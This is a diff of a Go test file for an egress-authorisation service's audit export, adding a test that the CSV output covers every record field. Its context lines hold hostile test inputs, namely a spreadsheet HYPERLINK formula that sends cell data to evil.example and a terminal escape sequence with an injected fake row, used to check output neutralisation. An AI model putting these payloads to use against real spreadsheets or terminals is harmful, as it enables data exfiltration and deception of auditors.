@@ -1,10 +1,14 @@
-package audit
+package admin
 
 import (
 	"encoding/csv"
+	"slices"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/egress-authz/egress-authz/internal/audit"
+	"github.com/egress-authz/egress-authz/internal/audit/audittest"
 )
 
 // TestOutputsNeutralizeWhatWorkloadsChoose: request ids, hosts and paths
@@ -12,7 +16,7 @@ import (
 // formula; in the table a control character would reach the auditor's
 // terminal. JSON keeps the exact values.
 func TestOutputsNeutralizeWhatWorkloadsChoose(t *testing.T) {
-	r := sample(1)
+	r := audittest.Sample(1)
 	r.RequestID = `=HYPERLINK("http://evil.example/?"&A1,"open")`
 	r.Path = "/x\x1b]52;c;ZXZpbA==\x07\r\nFAKE ROW"
 	r.Host = "+1.example"
@@ -88,5 +92,43 @@ func TestFilterBounds(t *testing.T) {
 	f, err := FilterFromQuery(func(k string) string { return map[string]string{"limit": "1000000", "since": "36500d"}[k] }, now)
 	if err != nil || f.Limit != MaxLimit || !f.Since.Before(now) {
 		t.Errorf("the largest accepted values: %+v, %v", f, err)
+	}
+}
+
+// TestCSVShowsEveryField: the CSV header is the fields' names, in the
+// order of audit.Fields, and each field of a record, changed in turn by
+// reflection over audit.Record, changes its row.
+func TestCSVShowsEveryField(t *testing.T) {
+	encode := func(r *audit.Record) [][]string {
+		var b strings.Builder
+		enc, err := NewEncoder("csv", &b)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := enc.Encode(r); err != nil {
+			t.Fatal(err)
+		}
+		if err := enc.Close(""); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%d rows, %v:\n%s", len(rows), err, b.String())
+		}
+		return rows
+	}
+	full := audittest.Full()
+	rows := encode(&full)
+	var names []string
+	for _, f := range audit.Fields() {
+		names = append(names, f.Name)
+	}
+	if !slices.Equal(rows[0], names) {
+		t.Errorf("CSV header %v, want %v", rows[0], names)
+	}
+	for _, v := range audittest.Vary(full) {
+		if got := encode(&v.Record); slices.Equal(got[1], rows[1]) {
+			t.Errorf("changing Record.%s leaves the CSV row as it was", v.Field)
+		}
 	}
 }
